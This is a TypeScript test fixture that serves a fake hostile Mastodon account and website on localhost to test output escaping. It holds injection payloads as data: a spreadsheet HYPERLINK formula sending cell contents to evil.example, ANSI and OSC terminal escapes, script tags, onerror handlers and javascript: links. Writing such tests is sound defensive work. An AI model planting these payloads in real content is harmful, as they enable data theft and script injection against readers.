/**
 * A hostile Mastodon account served on 127.0.0.1, in the API's real format (test/platforms/mastodon/format.ts):
 * its display name is a spreadsheet formula with a terminal escape and a script tag, and its replies
 * (enough of them to form a canned template, so their text reaches every report) carry script tags,
 * javascript: links, Markdown links, formulas and ANSI sequences. Its website (`/`) links to profiles
 * through hostile URLs.
 */
import { account, snowflake, status } from '../platforms/mastodon/format.js';
import { serveRoutes, type LocalServer } from './evidence-server.js';

export const HOSTILE_NAME =
  '=HYPERLINK("http://evil.example/?"&A1,"Click")\u001b]0;pwned\u0007<script>window.__pwned="name"</script>';
export const HOSTILE_REPLY =
  '<script>window.__pwned="reply"</script> <img src=x onerror="window.__pwned=1"> [click here](javascript:window.__pwned=2) ' +
  '<a href="javascript:window.__pwned=3">details</a> \u001b[2J\u001b[31mRED\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 | pipe ` tick *star*';

export async function serveHostileMastodon(): Promise<LocalServer & { profileUrl: string }> {
  const host = '127.0.0.1';
  const owner = account({
    host,
    id: '666',
    username: 'hostile',
    displayName: HOSTILE_NAME,
    note: 'hostile',
    createdAt: '2024-01-01T00:00:00.000Z',
    statusesCount: 5,
    lastStatusAt: '2026-10-30T12:00:00.000Z',
    followers: 1,
  });
  const statuses = Array.from({ length: 5 }, (_, i) => {
    const createdAt = new Date(Date.parse('2026-10-30T12:00:00Z') - i * 86_400_000).toISOString();
    return status(
      {
        id: snowflake(createdAt, i),
        createdAt,
        text: HOSTILE_REPLY,
        replyTo: {
          handle: `customer${i}`,
          host: 'example.social',
          accountId: `${900 + i}`,
          statusId: snowflake(createdAt, 100 + i),
        },
      },
      owner,
      host,
    );
  });
  const server = await serveRoutes({
    '/api/v1/accounts/lookup?acct=hostile': { type: 'application/json', body: JSON.stringify(owner) },
    '/api/v1/accounts/666/statuses?limit=40': { type: 'application/json', body: JSON.stringify(statuses) },
    // the company's website, as hostile: a formula and a script in a profile link's path, a javascript: link
    '/': {
      type: 'text/html; charset=utf-8',
      body: `<html><head><title>${HOSTILE_NAME}</title></head><body><footer><a href="https://www.facebook.com/pages/%3Cscript%3Ewindow.__pwned=4%3C%2Fscript%3E%0A=1+1/123">fb</a> <a href="javascript:window.__pwned=5">x</a> <a href="https://x.com/hostile_brand">x</a></footer></body></html>`,
    },
  });
  return { ...server, profileUrl: `${server.url}/@hostile` };
}
